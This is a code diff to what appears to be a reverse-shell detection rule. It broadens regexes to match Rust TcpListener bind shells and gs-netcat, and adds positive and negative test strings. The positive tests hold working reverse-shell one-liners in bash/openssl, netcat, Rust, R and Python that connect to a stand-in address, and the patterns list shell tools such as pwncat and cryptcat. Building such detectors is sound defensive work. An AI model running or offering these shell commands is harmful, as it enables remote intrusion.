@@ -20,7 +20,10 @@ export const rule: Rule = {
   anatomy: 'a connection and then a process whose input and output are that connection; tunnelling and C2 agents',
   source: 'https://www.revshells.com and https://attack.mitre.org/techniques/T1059/',
   match: [
-    { re: /TcpStream::connect\s*\([^]*?Command::new\s*\(\s*"(?:\/bin\/|sh|bash|cmd|powershell)/, window: 700 },
+    {
+      re: /(?:TcpStream::connect|TcpListener::bind\s*\([^]*?(?:incoming|accept))\s*\([^]*?Command::new\s*\(\s*"(?:\/bin\/|sh|bash|cmd|powershell)/,
+      window: 700,
+    },
     { re: /newSocket\s*\([^]*?(?:execProcess|startProcess|execCmd\w*)\s*\(/, window: 700 },
     { re: /:gen_tcp[,.]\s*connect\s*\(?[^]*?(?:System\.cmd|os:cmd|:os\.cmd|Port\.open)/, window: 600 },
     { re: /gen_tcp:connect\([^]*?os:cmd\(/, window: 600 },
@@ -56,7 +59,7 @@ export const rule: Rule = {
     { re: /using\sSockets[^]*?connect\([^]*?run\((?:pipeline\()?/, window: 500 },
     { re: /(?<![\w-])curl\s[^\n|]*telnet:\/\/[^\n]*(?:sh|fifo)/, window: 200 },
     {
-      re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/,
+      re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat|gs-netcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/,
       window: 200,
       accept: isComplete,
     },
@@ -77,6 +80,8 @@ export const rule: Rule = {
       '/bin/bash -i </tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 >/tmp/p',
       'sh </tmp/f 2>&1 | nc 203.0.113.7 4444',
       'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
+      'let l=TcpListener::bind("0.0.0.0:4444").unwrap();for s in l.incoming(){let o=Command::new("sh").arg("-c").arg(x);}',
+      'gs-netcat -s SECRET -i',
       'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
       "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))\nwhile 1: os.popen(s.recv(1024).decode())",
       "import socket,subprocess\nc=socket.create_connection(('203.0.113.7',8000))\nwhile 1: c.send(subprocess.getoutput(c.recv(99)).encode())",
@@ -102,6 +107,8 @@ export const rule: Rule = {
       'using var client = new TcpClient("stranger.invalid", 443);\nwatch.Start();',
       'socket -p 8080 is the port that it listens on',
       'let stream = TcpStream::connect("127.0.0.1:8080")?;',
+      'gs-netcat -s {{secret}} -i',
+      'let port = TcpListener::bind("127.0.0.1:0")?.local_addr()?.port(); Command::new("sh").arg("run.sh").spawn()?;',
       'ssh -L 8080:localhost:80 host',
       "con <- socketConnection(port = 6011)\nwriteLines('hello', con)",
       'openssl s_client -connect example.com:443 -servername example.com',
